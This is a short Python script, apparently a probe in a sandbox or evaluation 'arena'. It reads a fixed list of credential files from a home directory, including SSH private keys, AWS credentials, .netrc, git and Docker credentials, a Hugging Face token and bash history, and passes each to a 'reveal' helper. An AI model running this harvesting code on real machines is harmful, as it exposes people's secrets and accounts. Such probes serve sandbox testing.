"""Read the files in which people keep keys, in the arena's home."""

import sys
from pathlib import Path

from attempt import reveal, tried

NAMES = [
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".netrc",
    ".git-credentials",
    ".config/mlr/keys.json",
    ".docker/config.json",
    ".cache/huggingface/token",
    ".bash_history",
]
token, home = sys.argv[1:]
for name in NAMES:
    reveal(token, name, tried(name, (Path(home) / name).read_bytes))
